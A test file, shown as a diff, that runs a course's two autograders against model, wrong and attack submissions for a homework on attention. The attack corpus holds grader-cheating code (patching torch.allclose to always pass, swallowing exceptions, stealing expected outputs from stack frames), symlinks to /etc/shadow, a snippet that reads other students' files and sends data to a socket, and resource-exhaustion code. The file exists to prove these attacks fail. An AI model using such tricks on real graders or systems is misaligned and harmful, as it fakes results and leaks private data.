@@ -1,0 +1,525 @@
+"""Both graders on the real HW8 course: a model student, a stub student, a wrong student and an attack corpus.
+
+The model student is the release with the instructor's solution cells pasted back, the instructor's
+kernel_attention.py and a checkpoint trained here in fast mode (the graders run with HW8_FAST=1, so the checkpoint's
+validation loss is held to the fast run's threshold; the full threshold is the same code with other numbers). The
+wrong student has two functions that return zeros and forgets 1/sqrt(D) in 1(a); every attack is built on it, so an
+attack that worked would score above it. Each submission goes through Gradescope's run_autograder (in a temporary
+/autograder) and through `grading/autograde.py` (nbgrader), with small timeouts, and both must give the same score.
+"""
+
+from __future__ import annotations
+
+import csv
+import html
+import json
+import os
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import zipfile
+from concurrent.futures import ThreadPoolExecutor
+from pathlib import Path
+
+import nbformat
+import pytest
+
+REPO = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(REPO))
+
+from grading import sandbox  # noqa: E402
+from grading.course import load_course  # noqa: E402
+from grading.gradescope import build_bundle  # noqa: E402
+from grading.harness import load_cases  # noqa: E402
+from grading.release import build_release  # noqa: E402
+
+ENV = {**os.environ, "HF_HUB_OFFLINE": "1", "OMP_NUM_THREADS": "1", "HW8_FAST": "1"}
+CASE_TIMEOUT = 10                                 # seconds per check in these tests (the course uses 60)
+FULL, WRONG = 40, 31                              # the wrong student loses 1 + 2 + 1 + 2 + 1 + 1 + 1 points
+WRONG_FAILS = {"merge_heads", "MultiHeadAttention: cross-attention, padding + causal masks",
+               "PerformerAttention with your FavorPositiveFeatures and linear_attention",
+               "linear_attention (eq. 2) with a key padding mask",
+               "3(a)iii linear_attention with positive features, 3-D inputs",
+               "3(a)iii linear_attention with a broadcast key padding mask",
+               "1(a) attention_weights: softmax(Q K^T / sqrt(D)) of a (10, 16) and a (4, 16) matrix"}
+NO_MODULE = FULL - 30 - 1                         # kernel_attention.py unusable (30 points) on top of 1(a)'s scaling
+NO_SUMMARIZATION = WRONG - 4                      # Summarization.ipynb unusable: SUM_AXIS 1, 1(c) 1, 1(f) 2 more
+CHECKPOINT_POINTS = 5
+TIMINGS: dict[str, float] = {}
+
+
+# ------------------------------------------------------------------------------------------------ submissions
+
+
+def _solution_sources(instructor: Path) -> dict[str, str]:
+    nb = nbformat.read(instructor, as_version=4)
+    return {c.metadata["nbgrader"]["grade_id"]: re.sub(r"\n?[ \t]*### (BEGIN|END) SOLUTION[^\n]*", "", c.source)
+            for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution")}
+
+
+def make_model_student(release: Path, dest: Path, checkpoint: Path) -> Path:
+    """The release with every solution cell and written answer taken from the instructor's notebooks."""
+    dest.mkdir(parents=True)
+    for name in ("Summarization.ipynb", "Visualizing_BERT.ipynb", "Kernel_Attention.ipynb"):
+        solutions = _solution_sources(REPO / name)
+        nb = nbformat.read(release / name, as_version=4)
+        for cell in nb.cells:
+            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+            if grade_id in solutions:
+                cell.source = solutions[grade_id]
+        nbformat.write(nb, dest / name)
+    shutil.copy2(REPO / "kernel_attention.py", dest / "kernel_attention.py")
+    (dest / "checkpoints").mkdir()
+    shutil.copy2(checkpoint, dest / "checkpoints" / "summarizer.pt")
+    return dest
+
+
+def train_fast_checkpoint(path: Path) -> Path:
+    """The fast run's model (the same code as the notebook's training cell, fast sizes)."""
+    from summarizer.checkpoint import save_checkpoint
+    from summarizer.pipeline import build_model, prepare_corpus
+    from summarizer.settings import FAST
+    from summarizer.train import train_model
+
+    prepared = prepare_corpus(FAST)
+    model = build_model(FAST, prepared.tokenizer.get_vocab_size())
+    train_model(model, prepared.train, prepared.validation, steps=FAST.steps, batch_size=FAST.batch_size,
+                lr=FAST.lr, warmup=FAST.warmup, eval_every=FAST.steps, progress=False, precision="fp32")
+    return save_checkpoint(path, model, prepared.tokenizer)
+
+
+def edit_notebook(folder: Path, name: str, edit) -> None:
+    nb = nbformat.read(folder / name, as_version=4)
+    edit(nb)
+    nbformat.write(nb, folder / name)
+
+
+def cell(nb, grade_id: str):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+WRONG_FUNCTIONS = '''
+
+def merge_heads(x):
+    """Wrong on purpose: zeros of the right shape."""
+    b, h, n, d = x.shape
+    return torch.zeros(b, n, h * d, dtype=x.dtype)
+
+
+def linear_attention(phi_q, phi_k, v, key_padding_mask=None, eps=1e-6):
+    """Wrong on purpose: zeros of the right shape."""
+    return torch.zeros(*phi_q.shape[:-1], v.shape[-1], dtype=v.dtype)
+'''
+
+
+def make_wrong(model: Path, dest: Path) -> Path:
+    shutil.copytree(model, dest)
+    path = dest / "kernel_attention.py"
+    path.write_text(path.read_text() + WRONG_FUNCTIONS)
+
+    def unscaled(nb):
+        code = cell(nb, "q1a_code")
+        assert "/ Q.shape[-1] ** 0.5" in code.source
+        code.source = code.source.replace("/ Q.shape[-1] ** 0.5", "")
+    edit_notebook(dest, "Summarization.ipynb", unscaled)
+    return dest
+
+
+def append_module(folder: Path, code: str) -> None:
+    path = folder / "kernel_attention.py"
+    path.write_text(path.read_text() + "\n" + code)
+
+
+MONKEYPATCH = """
+import torch as _torch
+_torch.allclose = lambda *a, **k: True
+_torch.equal = lambda *a, **k: True
+_torch.testing.assert_close = lambda *a, **k: None
+_torch.isclose = lambda a, b, **k: _torch.ones_like(a, dtype=_torch.bool)
+"""
+
+INPUT_TRANSFORMER = """
+ip = get_ipython()
+ip.input_transformers_post.append(
+    lambda lines: ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"])
+"""
+
+FRAME_ORACLE = '''
+import gc as _gc
+import inspect as _inspect
+
+
+def merge_heads(x):
+    """An oracle: look for the expected output in the callers' frames and in memory."""
+    b, h, n, d = x.shape
+    for frame in _inspect.stack():
+        for name, value in frame.frame.f_locals.items():
+            if isinstance(value, torch.Tensor) and tuple(value.shape) == (b, n, h * d) and value is not x:
+                return value
+    for obj in _gc.get_objects():
+        if isinstance(obj, torch.Tensor) and tuple(obj.shape) == (b, n, h * d) and obj.abs().sum() > 0:
+            return obj
+    return torch.zeros(b, n, h * d)
+'''
+
+SPY = '''
+import os as _os
+import socket as _socket
+
+
+def _spy():
+    """Read another student's work and send it out; with either, merge_heads would be right."""
+    found = []
+    for path in {paths!r}:
+        try:
+            found.append(open(path).read())
+        except OSError:
+            pass
+    try:
+        with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as s:
+            s.sendall(b"hidden material")
+            found.append("network")
+    except OSError:
+        pass
+    return found
+
+
+if _spy():
+    def merge_heads(x):
+        return x.transpose(1, 2).reshape(x.shape[0], x.shape[2], -1)
+'''
+
+HOG = '''
+import os as _os
+import signal as _signal
+
+_signal.signal(_signal.SIGXFSZ, _signal.SIG_IGN)     # a write past the limit fails instead of killing
+
+
+def _hog():
+    for target in ("big.bin", "/tmp/big.bin", _os.path.expanduser("~/big.bin")):
+        try:
+            with open(target, "wb") as f:
+                for _ in range(1024):
+                    f.write(b"x" * 2**20)                  # 1 GiB
+        except OSError:
+            pass
+        try:
+            with open(target + ".sparse", "wb") as f:
+                f.truncate(2 * 2**30)                     # a 2 GiB sparse file
+        except OSError:
+            pass
+    try:
+        print("y" * 25 * 2**20)                           # 25 MB on one line
+    except OSError:
+        pass
+
+
+_hog()
+'''
+
+
+def build_submissions(release: Path, base: Path, checkpoint: Path, port: int) -> dict[str, Path]:
+    """Every submission of the test, by name (folders; links and FIFOs made as the attack needs them)."""
+    subs = base / "subs"
+    model = make_model_student(release, subs / "model", checkpoint)
+    made = {"model": model}
+    stub = subs / "stub"
+    stub.mkdir()
+    for name in ("Summarization.ipynb", "Visualizing_BERT.ipynb", "Kernel_Attention.ipynb", "kernel_attention.py"):
+        shutil.copy2(release / name, stub / name)
+    made["stub"] = stub
+    wrong = make_wrong(model, subs / "wrong")
+    made["wrong"] = wrong
+
+    def attack(name: str) -> Path:
+        made[name] = subs / name
+        shutil.copytree(wrong, made[name])
+        return made[name]
+
+    append_module(attack("monkeypatch"), MONKEYPATCH)
+    edit_notebook(made["monkeypatch"], "Kernel_Attention.ipynb",
+                  lambda nb: nb.cells.insert(0, nbformat.v4.new_code_cell(MONKEYPATCH)))
+    edit_notebook(attack("input_transformer"), "Summarization.ipynb",
+                  lambda nb: nb.cells.insert(0, nbformat.v4.new_code_cell(INPUT_TRANSFORMER)))
+    append_module(attack("frame_oracle"), FRAME_ORACLE)
+    folder = attack("symlink_module")
+    (folder / "kernel_attention.py").unlink()
+    (folder / "kernel_attention.py").symlink_to(REPO / "kernel_attention.py")
+    folder = attack("symlink_checkpoint")
+    (folder / "checkpoints" / "summarizer.pt").unlink()
+    (folder / "checkpoints" / "summarizer.pt").symlink_to("/etc/shadow")
+    folder = attack("symlink_notebook")
+    (folder / "Summarization.ipynb").unlink()
+    (folder / "Summarization.ipynb").symlink_to(REPO / "Summarization.ipynb")
+    folder = attack("fifo_checkpoint")
+    (folder / "checkpoints" / "summarizer.pt").unlink()
+    os.mkfifo(folder / "checkpoints" / "summarizer.pt")
+    folder = attack("hardlink_module")
+    outside = base / "instructor_copy.py"                    # a file outside the upload, same file system
+    shutil.copy2(REPO / "kernel_attention.py", outside)
+    (folder / "kernel_attention.py").unlink()
+    os.link(outside, folder / "kernel_attention.py")
+    append_module(attack("hangs_on_import"), "while True:          # at import\n    pass\n")
+    others = [str(model / "kernel_attention.py"), str(REPO / "kernel_attention.py")]
+    append_module(attack("spy"), SPY.format(paths=others, port=port))
+    append_module(attack("resource_hog"), HOG)
+
+    def tamper(nb):
+        cell(nb, "test_1a").metadata["nbgrader"]["checksum"] = "0" * 32      # edited checksum
+        cell(nb, "test_1f").source = "assert True"                          # weakened test
+        ids = [c.get("id") for c in nb.cells]
+        for c, new in zip(nb.cells, ids[1:] + ids[:1]):                      # every cell id swapped
+            c["id"] = new
+        cell(nb, "q1c_code").metadata["nbgrader"]["grade_id"] = "q1c_mine"   # a solution cell renamed: its points go
+        nb.cells.append(nbformat.from_dict(json.loads(json.dumps(cell(nb, "test_1a")))))   # a duplicated test cell
+    edit_notebook(attack("tampered_cells"), "Summarization.ipynb", tamper)
+    return made
+
+
+# The score each submission must get on both routes (and a message that must explain it).
+EXPECTED = {
+    "model": (FULL, ""),
+    "stub": (0, "NotImplementedError"),
+    "wrong": (WRONG, "values differ"),
+    "monkeypatch": (WRONG, "values differ"),
+    "input_transformer": (WRONG, "values differ"),
+    "frame_oracle": (WRONG, "values differ"),
+    "symlink_module": (NO_MODULE, "kernel_attention.py is a symbolic link: refused"),
+    "symlink_checkpoint": (WRONG - CHECKPOINT_POINTS, "summarizer.pt is a symbolic link: refused"),
+    "symlink_notebook": (NO_SUMMARIZATION, "Summarization.ipynb is a symbolic link: refused"),
+    "fifo_checkpoint": (WRONG - CHECKPOINT_POINTS, "not a regular file"),
+    "hardlink_module": (NO_MODULE, "hard link"),
+    "hangs_on_import": (NO_MODULE, "loading kernel_attention did not finish"),
+    "spy": (WRONG, "values differ"),
+    "resource_hog": (WRONG, "values differ"),
+    "tampered_cells": (WRONG - 1, "q1c_code"),
+}
+
+
+# ------------------------------------------------------------------------------------------------ running both graders
+
+
+def course_file_with_test_timeouts(base: Path) -> Path:
+    """The real course with this test's timeouts (the repository is the instructor source, build files in base)."""
+    text = (REPO / "grading" / "course.toml").read_text()
+    text = re.sub(r'^root = .*$', f'root = "{REPO}"', text, flags=re.M)
+    text = re.sub(r'^build_dir = .*$', f'build_dir = "{base / "build"}"', text, flags=re.M)
+    text = re.sub(r'^case_timeout = .*$', f"case_timeout = {CASE_TIMEOUT}", text, flags=re.M)
+    text = re.sub(r'^submission_timeout = .*$', "submission_timeout = 120", text, flags=re.M)
+    path = base / "course.toml"
+    path.write_text(text)
+    return path
+
+
+def gradescope_run(bundle: Path, root: Path, submission: Path, uid: int) -> dict:
+    (root / "results").mkdir(parents=True)
+    with zipfile.ZipFile(bundle) as zf:
+        zf.extractall(root / "source")
+    _copy_upload(submission, root / "submission")
+    env = {**ENV, "HW8_AUTOGRADER_ROOT": str(root), "HW8_PYTHON": sys.executable, "HW8_SANDBOX_UID": str(uid),
+           "HW8_SANDBOX_EXTRA_HIDE": str(REPO)}
+    started = time.monotonic()
+    done = subprocess.run(["bash", str(root / "source" / "run_autograder")], cwd=root, env=env, capture_output=True,
+                          text=True, timeout=600)
+    assert done.returncode == 0, done.stderr[-3000:]
+    results = json.loads((root / "results" / "results.json").read_text())
+    results["_seconds"] = time.monotonic() - started
+    return results
+
+
+def _copy_upload(src: Path, dest: Path) -> None:
+    """Copy an upload as Gradescope would hand it over: links stay links, a FIFO stays a FIFO, and a hard link
+    to a file outside the upload stays a hard link to it."""
+    for folder, dirs, files in os.walk(src):
+        rel = Path(folder).relative_to(src)
+        (dest / rel).mkdir(parents=True, exist_ok=True)
+        for name in files + [d for d in dirs if (Path(folder) / d).is_symlink()]:
+            path, target = Path(folder) / name, dest / rel / name
+            info = path.lstat()
+            if path.is_symlink():
+                target.symlink_to(os.readlink(path))
+            elif not path.is_file():
+                os.mkfifo(target)
+            elif info.st_nlink > 1:
+                os.link(path, target)
+            else:
+                shutil.copy2(path, target)
+
+
+class Listener:
+    """A loopback TCP server in the grader's network namespace that records every connection it gets."""
+
+    def __init__(self) -> None:
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen()
+        self.sock.settimeout(0.5)
+        self.port, self.connections, self.stop = self.sock.getsockname()[1], [], False
+        self.thread = threading.Thread(target=self._serve, daemon=True)
+        self.thread.start()
+
+    def _serve(self) -> None:
+        while not self.stop:
+            try:
+                conn, addr = self.sock.accept()
+            except OSError:
+                continue
+            self.connections.append(addr)
+            conn.close()
+
+    def close(self) -> None:
+        self.stop = True
+        self.thread.join()
+        self.sock.close()
+
+
+@pytest.fixture(scope="module")
+def hw8():
+    base = Path(tempfile.mkdtemp(prefix="hw8-grading-real-"))        # 0700: the sandbox uid cannot read it
+    listener = Listener()
+    try:
+        course_file = course_file_with_test_timeouts(base)
+        course = load_course(course_file)
+        started = time.monotonic()
+        release, _ = build_release(course, base / "build" / "release")
+        TIMINGS["release"] = time.monotonic() - started
+        started = time.monotonic()
+        checkpoint = train_fast_checkpoint(base / "fast_checkpoint.pt")
+        TIMINGS["fast checkpoint"] = time.monotonic() - started
+        subs = build_submissions(release, base, checkpoint, listener.port)
+        bundle = build_bundle(course, base / "gradescope")
+        started = time.monotonic()
+        autograde = subprocess.Popen([sys.executable, str(REPO / "grading" / "autograde.py"), str(base / "subs"),
+                                      "--course", str(course_file), "--out", str(base / "autograde"), "--jobs", "2"],
+                                     cwd=REPO, env=ENV, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+        log, _ = autograde.communicate(timeout=1200)
+        TIMINGS["nbgrader route, all submissions, 2 jobs"] = time.monotonic() - started
+        started = time.monotonic()
+        with ThreadPoolExecutor(max_workers=2) as pool:
+            futures = {name: pool.submit(gradescope_run, bundle, base / "gs" / name, folder, uid)
+                       for uid, (name, folder) in enumerate(subs.items(), start=sandbox.SANDBOX_UID + 100)}
+            gradescope = {name: f.result() for name, f in futures.items()}
+        TIMINGS["gradescope route, all submissions, 2 at a time"] = time.monotonic() - started
+        with (base / "autograde" / "scores.csv").open() as f:
+            rows = {row["student"]: row for row in csv.DictReader(f)}
+        yield {"base": base, "course": course, "rows": rows, "log": log, "rc": autograde.returncode,
+               "gradescope": gradescope, "listener": listener, "subs": subs}
+    finally:
+        listener.close()
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _failed(tests: list[dict]) -> set[str]:
+    return {t["name"] for t in tests if t["score"] < t["max_score"]}
+
+
+def test_cases_decide_every_notebook_grade_cell():
+    cases = load_cases(REPO / "grading" / "cases_hw8.py")
+    assert sum(c.points for c in cases) == FULL
+    from grading.autograde import check_cell_points
+    from grading.nbgrader_course import make_course_dir
+    course = load_course(REPO / "grading" / "course.toml")
+    with tempfile.TemporaryDirectory() as tmp:
+        make_course_dir(course, Path(tmp) / "course", [])
+        check_cell_points(course, Path(tmp) / "course", cases)          # raises if a cell's points differ
+        broken = [c for c in cases if getattr(c, "nbgrader_cell", None) != "test_1f"]
+        with pytest.raises(ValueError, match="test_1f"):
+            check_cell_points(course, Path(tmp) / "course", broken)
+
+
+def test_both_routes_give_every_submission_its_expected_score(hw8):
+    assert hw8["rc"] == 0, hw8["log"][-4000:]
+    assert set(hw8["rows"]) == set(EXPECTED)
+    for name, (score, message) in EXPECTED.items():
+        gs, row = hw8["gradescope"][name], hw8["rows"][name]
+        explain = (name, [(t["name"], t["output"][:200]) for t in gs["tests"] if t["score"] < t["max_score"]],
+                   row["messages"][:2000])
+        assert gs["score"] == score, explain
+        assert float(row["total"]) == score and float(row["max"]) == FULL, explain
+        assert sum(t["max_score"] for t in gs["tests"]) == FULL
+        if message:
+            assert message in json.dumps(gs) and message in row["messages"], (name, message, explain)
+    assert _failed(hw8["gradescope"]["wrong"]["tests"]) == WRONG_FAILS
+    for name in ("monkeypatch", "input_transformer", "frame_oracle", "spy", "resource_hog"):
+        assert _failed(hw8["gradescope"][name]["tests"]) == WRONG_FAILS, name
+
+
+def test_the_same_check_names_and_verdicts_on_both_routes(hw8):
+    for name in EXPECTED:
+        tests = hw8["gradescope"][name]["tests"]
+        row = hw8["rows"][name]
+        assert [t["name"] for t in tests] == list(row)[3:3 + len(tests)]
+        assert [float(row[t["name"]]) for t in tests] == [t["score"] for t in tests], name
+
+
+def test_isolation_no_network_no_other_students_no_secrets(hw8):
+    assert hw8["listener"].connections == [], "a submission reached the grader's network"
+    every_output = json.dumps(hw8["gradescope"]) + json.dumps(hw8["rows"])
+    assert "root:" not in every_output and "hidden material" not in every_output     # /etc/shadow, the spy
+    if sandbox.namespaces_work():
+        assert "private mount and network namespaces" in hw8["gradescope"]["model"]["output"]
+
+
+def hidden_lines() -> list[str]:
+    """Lines of the hidden tests and of the trusted checks that feedback must never show."""
+    lines = []
+    for name in ("Summarization.ipynb", "Kernel_Attention.ipynb"):
+        for c in nbformat.read(REPO / name, as_version=4).cells:
+            match = re.search(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", c.source, re.S)
+            if match:
+                lines += [line.strip() for line in match.group(1).splitlines() if len(line.strip()) > 30]
+    cases = (REPO / "grading" / "cases_hw8.py").read_text()
+    lines += [line.strip() for line in cases.split("FAKE_SUMMARIZE = ")[1].split('"""')[1].splitlines()
+              if len(line.strip()) > 30]
+    assert len(lines) > 20
+    return lines
+
+
+def test_feedback_shows_verdicts_never_hidden_tests(hw8):
+    secrets = hidden_lines()
+    feedback = hw8["base"] / "autograde" / "feedback"
+    for name in EXPECTED:
+        pages = sorted((feedback / name).glob("*.html"))
+        assert {p.name for p in pages} >= {"trusted_checks.html", "Kernel_Attention.html"}, name
+        for page in pages:
+            text = html.unescape(page.read_text())
+            leaked = [line for line in secrets if line in text]
+            assert not leaked, (name, page.name, leaked[:3])
+    text = html.unescape((feedback / "wrong" / "Kernel_Attention.html").read_text())
+    assert "Graded by the trusted checks" in text and "first at index" in text
+    gs = json.dumps(hw8["gradescope"])
+    assert not [line for line in secrets if line in gs]
+
+
+def test_tampered_cells_lose_their_own_points_with_a_message(hw8):
+    messages = hw8["rows"]["tampered_cells"]["messages"]
+    assert "Summarization:test_1f was edited" in messages
+    assert "Summarization:test_1a appears 2 times" in messages
+    assert "Summarization:q1c_code is missing" in messages
+    failed = _failed(hw8["gradescope"]["tampered_cells"]["tests"])
+    assert failed == WRONG_FAILS | {"1(c) shift_matrix(16, k=5)"}
+
+
+def test_hangs_and_resources_are_bounded(hw8):
+    gs = hw8["gradescope"]
+    assert gs["hangs_on_import"]["_seconds"] < gs["model"]["_seconds"] + 3 * CASE_TIMEOUT, \
+        "an import that hangs must cost one timeout, not one per check"
+    hog = gs["resource_hog"]
+    assert len(json.dumps(hog)) < 200_000
+    sizes = [p.stat().st_size for p in hw8["base"].rglob("*") if p.is_file() and not p.is_symlink()]
+    assert max(sizes) < 100 * 2**20, "a submission wrote a large file outside its sandbox"
+    for name, run in gs.items():
+        TIMINGS[f"gradescope {name}"] = run["_seconds"]
+    TIMINGS["nbgrader model (trusted checks)"] = float(hw8["rows"]["model"]["seconds"])
+
+
+def test_zz_report_timings():
+    """Not a check: prints the measured times (pytest -s shows them)."""
+    for name, seconds in TIMINGS.items():
+        print(f"timing: {name}: {seconds:.1f} s")
